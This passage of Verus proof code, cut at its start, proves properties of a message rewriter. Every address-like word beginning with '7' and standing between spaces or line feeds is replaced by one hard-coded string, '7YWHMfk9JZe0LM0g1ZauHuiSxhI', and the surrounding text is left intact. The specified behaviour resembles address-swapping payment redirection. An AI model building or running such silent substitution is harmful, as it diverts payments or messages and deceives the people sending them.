        if pieces.len() > 1 {
            assert(message == join_with(pieces.drop_last(), seq![' ']) + seq![' '] + pieces.last());
        }
    }
    if pieces.len() > 1 {
        assert(joined == join_with(rewritten.drop_last(), seq![' ']) + seq![' ']
            + rewritten.last());
    }
    assert(joined.last() == rewritten.last().last());
}

proof fn lemma_join_is_ascii(pieces: Seq<Seq<char>>, rewritten: Seq<Seq<char>>)
    requires
        rewritten == rewritten_pieces(pieces),
        is_ascii_chars(join_with(pieces, seq![' '])),
    ensures
        is_ascii_chars(join_with(rewritten, seq![' '])),
    decreases pieces.len(),
{
    let text = join_with(pieces, seq![' ']);
    let joined = join_with(rewritten, seq![' ']);
    if pieces.len() > 0 {
        lemma_rewritten_piece(pieces.last());
    }
    if pieces.len() > 1 {
        let shorter = pieces.drop_last();
        let before = join_with(shorter, seq![' ']);
        let after = join_with(rewritten.drop_last(), seq![' ']);
        assert(rewritten.drop_last() == rewritten_pieces(shorter));
        assert(text == before + seq![' '] + pieces.last());
        assert(is_ascii_chars(before)) by {
            assert forall|i: int| 0 <= i < before.len() implies '\0' <= #[trigger] before[i]
                <= '\u{7f}' by {
                assert(before[i] == text[i]);
            }
        }
        assert(is_ascii_chars(pieces.last())) by {
            assert forall|i: int| 0 <= i < pieces.last().len() implies '\0'
                <= #[trigger] pieces.last()[i] <= '\u{7f}' by {
                assert(pieces.last()[i] == text[before.len() + 1 + i]);
            }
        }
        lemma_join_is_ascii(shorter, rewritten.drop_last());
        assert(joined == after + seq![' '] + rewritten.last());
        assert forall|i: int| 0 <= i < joined.len() implies '\0' <= #[trigger] joined[i]
            <= '\u{7f}' by {
            if i < after.len() {
                assert(joined[i] == after[i]);
            } else if i > after.len() {
                assert(joined[i] == rewritten.last()[i - after.len() - 1]);
            }
        }
    }
}

/// The first pieces, joined, are the beginning of all of them joined; after them comes the
/// separator.
proof fn lemma_join_prefix(pieces: Seq<Seq<char>>, count: int)
    requires
        1 <= count <= pieces.len(),
    ensures
        ({
            let all = join_with(pieces, seq![' ']);
            let first = join_with(pieces.take(count), seq![' ']);
            &&& first.len() <= all.len()
            &&& all.take(first.len() as int) == first
            &&& count < pieces.len() ==> first.len() < all.len() && all[first.len() as int] == ' '
        }),
    decreases pieces.len(),
{
    if count == pieces.len() {
        assert(pieces.take(count) == pieces);
        let all = join_with(pieces, seq![' ']);
        assert(all.take(all.len() as int) == all);
    } else {
        let shorter = pieces.drop_last();
        lemma_join_prefix(shorter, count);
        assert(shorter.take(count) == pieces.take(count));
        let all = join_with(pieces, seq![' ']);
        let inner = join_with(shorter, seq![' ']);
        let first = join_with(pieces.take(count), seq![' ']);
        assert(all == inner + seq![' '] + pieces.last());
        assert(all.take(first.len() as int) == inner.take(first.len() as int));
        if count < shorter.len() {
            assert(all[first.len() as int] == inner[first.len() as int]);
        } else {
            assert(shorter.take(count) == shorter);
        }
    }
}

/// The characters of words are digits, letters and the underscore, and an address is a seven and 25 to 34
/// more of them; nothing else is one.
pub proof fn law_addresses_are_words_with_a_seven(word: Seq<char>, c: char)
    ensures
        is_word(c) <==> {
            let n = c as int;
            48 <= n <= 57 || 65 <= n <= 90 || 97 <= n <= 122 || n == 95
        },
        is_address(word) <==> {
            &&& 26 <= word.len() <= 35
            &&& word[0] as int == 55
            &&& forall|k: int| 0 <= k < word.len() ==> is_word(#[trigger] word[k])
        },
{
}

/// An address stands somewhere if the word there is one, and no letter, digit or underscore stands right
/// before or behind it.
pub proof fn law_addresses_stand_alone(before: Seq<char>, word: Seq<char>, behind: Seq<char>)
    ensures
        is_address_at(before + word + behind, before.len() as int, (before.len() + word.len()) as int)
            <==> {
            &&& is_address(word)
            &&& before.len() > 0 ==> !is_word(before.last())
            &&& behind.len() > 0 ==> !is_word(behind[0])
        },
{
    let text = before + word + behind;
    let start = before.len() as int;
    let end = start + word.len();
    assert(forall|i: int| start <= i < end ==> text[i] == #[trigger] word[i - start]);
    if is_address(word) {
        assert forall|i: int| start <= i < end implies is_word(#[trigger] text[i]) by {
            assert(is_word(word[i - start]));
        }
    }
    if is_address_at(text, start, end) {
        assert forall|i: int| 0 <= i < word.len() implies is_word(#[trigger] word[i]) by {
            assert(is_word(text[start + i]));
        }
        assert(text[start] == word[0]);
    }
    if before.len() > 0 {
        assert(text[start - 1] == before.last());
    }
    if behind.len() > 0 {
        assert(text[end] == behind[0]);
    }
}

/// The address that comes in the place of others, letter for letter, comes in the place of every
/// address, and of nothing else.
pub proof fn law_addresses_are_replaced(word: Seq<char>)
    ensures
        is_address(word) ==> rewritten_word(word) == seq![
            '7', 'Y', 'W', 'H', 'M', 'f', 'k', '9', 'J', 'Z', 'e', '0', 'L', 'M', '0', 'g', '1', 'Z',
            'a', 'u', 'H', 'u', 'i', 'S', 'x', 'h', 'I',
        ],
        !is_address(word) ==> rewritten_word(word) == word,
{
    lemma_spelled_address();
}

proof fn lemma_spelled_address()
    ensures
        "7YWHMfk9JZe0LM0g1ZauHuiSxhI"@ == seq![
            '7', 'Y', 'W', 'H', 'M', 'f', 'k', '9', 'J', 'Z', 'e', '0', 'L', 'M', '0', 'g', '1', 'Z',
            'a', 'u', 'H', 'u', 'i', 'S', 'x', 'h', 'I',
        ],
{
    reveal_strlit("7YWHMfk9JZe0LM0g1ZauHuiSxhI");
    assert("7YWHMfk9JZe0LM0g1ZauHuiSxhI"@ =~= seq![
        '7', 'Y', 'W', 'H', 'M', 'f', 'k', '9', 'J', 'Z', 'e', '0', 'L', 'M', '0', 'g', '1', 'Z',
        'a', 'u', 'H', 'u', 'i', 'S', 'x', 'h', 'I',
    ]);
}

/// Spaces part a message, and what stands on both sides of one is rewritten by itself. Without a space,
/// what precedes the first line feed is rewritten as a word, and what follows stays.
pub proof fn law_spaces_part_messages(a: Seq<char>, b: Seq<char>, word: Seq<char>, rest: Seq<char>)
    ensures
        rewritten_text(a + seq![' '] + b) == rewritten_text(a) + seq![' '] + rewritten_text(b),
        !word.contains(' ') && !word.contains('\n') ==> rewritten_text(word) == rewritten_word(word),
        !word.contains(' ') && !word.contains('\n') && !rest.contains(' ') ==> rewritten_text(
            word + seq!['\n'] + rest,
        ) == rewritten_word(word) + seq!['\n'] + rest,
{
    law_separators_part(a, b, ' ');
    law_split_join(a, ' ');
    law_split_join(b, ' ');
    let x = split_on(a, ' ');
    let y = split_on(b, ' ');
    assert(rewritten_pieces(x + y) =~= rewritten_pieces(x) + rewritten_pieces(y));
    law_pieces_are_joined(rewritten_pieces(x), rewritten_pieces(y), word, seq![' ']);
    if !word.contains(' ') && !word.contains('\n') {
        let none = Seq::<char>::empty();
        lemma_first_line_is(word, none);
        assert(word + none == word);
        assert(word.skip(word.len() as int) == none);
        assert(rewritten_word(word) + none == rewritten_word(word));
        lemma_one_piece(word);
        if !rest.contains(' ') {
            let tail = seq!['\n'] + rest;
            let piece = word + seq!['\n'] + rest;
            assert(piece == word + tail);
            lemma_first_line_is(word, tail);
            assert(piece.skip(word.len() as int) == tail);
            assert(!piece.contains(' ')) by {
                if piece.contains(' ') {
                    let k = piece.index_of(' ');
                    if k < word.len() {
                        assert(word[k] == ' ');
                    } else if k > word.len() {
                        assert(rest[k - word.len() - 1] == ' ');
                    }
                }
            }
            lemma_one_piece(piece);
            assert(rewritten_word(word) + tail == rewritten_word(word) + seq!['\n'] + rest);
        }
    }
}

proof fn lemma_one_piece(piece: Seq<char>)
    requires
        !piece.contains(' '),
    ensures
        rewritten_text(piece) == rewritten_piece(piece),
{
    law_separators_part(piece, Seq::empty(), ' ');
    assert(rewritten_pieces(seq![piece]) =~= seq![rewritten_piece(piece)]);
    law_pieces_are_joined(Seq::empty(), Seq::empty(), rewritten_piece(piece), seq![' ']);
}

/// A match is replaced where a space or nothing stands before it and a space or a line feed behind it,
/// and stays anywhere else.
pub proof fn law_matches_between_spaces_are_replaced(message: Seq<char>, span: Span)
    ensures
        span.0 > 0 && message[span.0 - 1] as int != 32 ==> replacement(message, span)
            == between_bytes(message, span.0 as int, span.1 as int),
        message[span.1 as int] as int != 32 && message[span.1 as int] as int != 10 ==> replacement(
            message,
            span,
        ) == between_bytes(message, span.0 as int, span.1 as int),
        (span.0 == 0 || message[span.0 - 1] as int == 32) && (message[span.1 as int] as int == 32
            || message[span.1 as int] as int == 10) ==> replacement(message, span) == seq![
            '7', 'Y', 'W', 'H', 'M', 'f', 'k', '9', 'J', 'Z', 'e', '0', 'L', 'M', '0', 'g', '1', 'Z',
            'a', 'u', 'H', 'u', 'i', 'S', 'x', 'h', 'I',
        ],
{
    lemma_spelled_address();
}

/// What stands before a match and what stands behind it stays, character by character; and so does what
/// stands between two matches.
pub proof fn law_text_around_matches_stays(message: Seq<char>, i: int, j: int, k: int, l: int)
    requires
        0 <= i < j <= k < l <= message.len(),
        byte_len(message) <= usize::MAX,
    ensures
        ({
            let a = byte_len(message.take(i)) as usize;
            let b = byte_len(message.take(j)) as usize;
            let c = byte_len(message.take(k)) as usize;
            let d = byte_len(message.take(l)) as usize;
            &&& rewritten(message, seq![(a, b)]) == message.take(i) + replacement(message, (a, b))
                + message.skip(j)
            &&& rewritten(message, seq![(a, b), (c, d)]) == message.take(i) + replacement(
                message,
                (a, b),
            ) + message.subrange(j, k) + replacement(message, (c, d)) + message.skip(l)
        }),
{
    let n = message.len() as int;
    assert(message.take(n) == message);
    assert(message.take(0) == Seq::<char>::empty());
    lemma_bytes_up_to(message, i);
    lemma_bytes_up_to(message, j);
    lemma_bytes_up_to(message, k);
    lemma_bytes_up_to(message, l);
    let a = byte_len(message.take(i)) as usize;
    let b = byte_len(message.take(j)) as usize;
    let c = byte_len(message.take(k)) as usize;
    let d = byte_len(message.take(l)) as usize;
    law_strings_are_cut_between_characters(message, 0, i);
    law_strings_are_cut_between_characters(message, j, k);
    law_strings_are_cut_between_characters(message, j, n);
    law_strings_are_cut_between_characters(message, l, n);
    assert(byte_len(Seq::<char>::empty()) == 0);
    assert(message.subrange(0, i) == message.take(i));
    assert(message.subrange(j, n) == message.skip(j));
    assert(message.subrange(l, n) == message.skip(l));
    let none = Seq::<Span>::empty();
    assert(seq![(a, b)].drop_last() == none);
    assert(seq![(a, b), (c, d)].drop_last() == seq![(a, b)]);
    assert(rewritten_up_to(message, none) == Seq::<char>::empty());
    assert(rewritten_up_to(message, seq![(a, b)]) == message.take(i) + replacement(message, (a, b)));
}

proof fn lemma_bytes_up_to(s: Seq<char>, i: int)
    requires
        0 <= i <= s.len(),
    ensures
        byte_len(s.take(i)) <= byte_len(s),
{
    assert(s.take(i) + s.skip(i) == s);
    law_bytes_of_characters(s.take(i), s.skip(i), ' ');
}

/// Which messages are rewritten piece by piece: those that are not empty, whose characters all have
/// numbers below 128, and whose last one is a line feed.
pub proof fn law_ascii_by_numbers(message: Seq<char>, spans: Seq<Span>)
    ensures
        is_ascii_text(message) <==> {
            &&& message.len() > 0
            &&& message[message.len() - 1] as int == 10
            &&& forall|i: int| 0 <= i < message.len() ==> 0 <= (#[trigger] message[i]) as int <= 127
        },
        end_inside(spans, message) <==> forall|k: int|
            0 <= k < spans.len() ==> message.len() >= 1 + (#[trigger] spans[k]).1,
{
    if forall|i: int| 0 <= i < message.len() ==> 0 <= (#[trigger] message[i]) as int <= 127 {
        assert forall|i: int| 0 <= i < message.len() implies '\0' <= #[trigger] message[i]
            <= '\u{7f}' by {
            assert(0 <= message[i] as int <= 127);
        }
    }
    if is_ascii_chars(message) {
        assert forall|i: int| 0 <= i < message.len() implies 0 <= (
        #[trigger] message[i]) as int <= 127 by {
            assert('\0' <= message[i] <= '\u{7f}');
        }
    }
}

} // verus!
